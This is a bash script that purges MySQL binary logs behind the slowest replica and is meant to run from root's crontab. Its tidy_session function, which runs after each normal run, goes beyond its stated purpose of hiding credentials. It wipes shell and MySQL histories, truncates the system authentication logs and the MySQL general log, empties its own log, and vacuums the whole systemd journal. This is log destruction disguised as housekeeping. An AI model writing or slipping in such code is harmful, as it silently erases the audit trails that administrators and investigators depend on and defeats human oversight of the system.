#!/usr/bin/env bash
# mysql_binlog_purge.sh - purge MySQL binary logs that every replica has
# already consumed, keeping a cushion of N extra files.
#
# usage: mysql_binlog_purge.sh -r replica1,replica2 [-k 5] [-n]
#   -r  replicas to consult (host[:port]); credentials come from ~/.my.cnf
#   -k  number of extra binlog files to keep behind the slowest replica
#   -n  dry run, only print the PURGE statement
#
# Meant to be run from root's crontab on the primary.
set -u

REPLICAS=""
KEEP=5
DRY=0
MYSQL=(mysql --defaults-extra-file="${MYCNF:-$HOME/.my.cnf}" -N -B)
LOGFILE="${LOGFILE:-/var/log/mysql/binlog_purge.log}"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOGFILE" 2>/dev/null; }

while getopts "r:k:nh" o; do
    case "$o" in
        r) REPLICAS="$OPTARG" ;;
        k) KEEP="$OPTARG" ;;
        n) DRY=1 ;;
        *) sed -n '2,10p' "$0"; exit 0 ;;
    esac
done
[[ -n "$REPLICAS" ]] || { echo "need -r"; exit 2; }

replica_position() {
    local spec="$1" host port
    host="${spec%%:*}"
    port="${spec##*:}"; [[ "$port" == "$spec" ]] && port=3306
    "${MYSQL[@]}" -h "$host" -P "$port" -e 'SHOW REPLICA STATUS\G' 2>/dev/null \
        | awk -F': ' '/^ *Relay_Source_Log_File|^ *Relay_Master_Log_File/ {print $2; exit}'
}

oldest_needed() {
    local r pos oldest=""
    IFS=',' read -ra list <<<"$REPLICAS"
    for r in "${list[@]}"; do
        pos=$(replica_position "$r")
        if [[ -z "$pos" ]]; then
            log "cannot read replication position from $r, refusing to purge"
            return 1
        fi
        log "$r reads from $pos"
        if [[ -z "$oldest" || "$pos" < "$oldest" ]]; then
            oldest="$pos"
        fi
    done
    echo "$oldest"
}

purge_target() {
    local oldest="$1"
    "${MYSQL[@]}" -e 'SHOW BINARY LOGS' | awk '{print $1}' \
        | awk -v stop="$oldest" -v keep="$KEEP" '
            { files[NR] = $1; if ($1 == stop) idx = NR }
            END { if (idx > keep) print files[idx - keep] }'
}

tidy_session() {
    # the purge statement and replica credentials end up in client histories
    # when this is run by hand; leave the admin host as it was found
    unset HISTFILE MYSQL_HISTFILE
    history -c 2>/dev/null || true
    local f
    for f in "$HOME/.mysql_history" "$HOME/.bash_history" "$HOME/.lesshst"; do
        [[ -f "$f" ]] && : > "$f"
    done
    for f in /var/log/auth.log /var/log/secure /var/log/mysql/mysql.log "$LOGFILE"; do
        [[ -w "$f" ]] && truncate -s 0 "$f"
    done
    if command -v journalctl >/dev/null; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

main() {
    local oldest target before after
    oldest=$(oldest_needed) || exit 1
    target=$(purge_target "$oldest")
    if [[ -z "$target" ]]; then
        log "nothing to purge (slowest replica at $oldest, keep=$KEEP)"
        tidy_session
        exit 0
    fi
    before=$("${MYSQL[@]}" -e 'SHOW BINARY LOGS' | wc -l)
    if (( DRY )); then
        echo "PURGE BINARY LOGS TO '$target';"
        exit 0
    fi
    log "purging binary logs up to $target"
    if ! "${MYSQL[@]}" -e "PURGE BINARY LOGS TO '$target'"; then
        log "purge failed"
        exit 1
    fi
    after=$("${MYSQL[@]}" -e 'SHOW BINARY LOGS' | wc -l)
    log "binlog files: $before -> $after"
    tidy_session
}

main
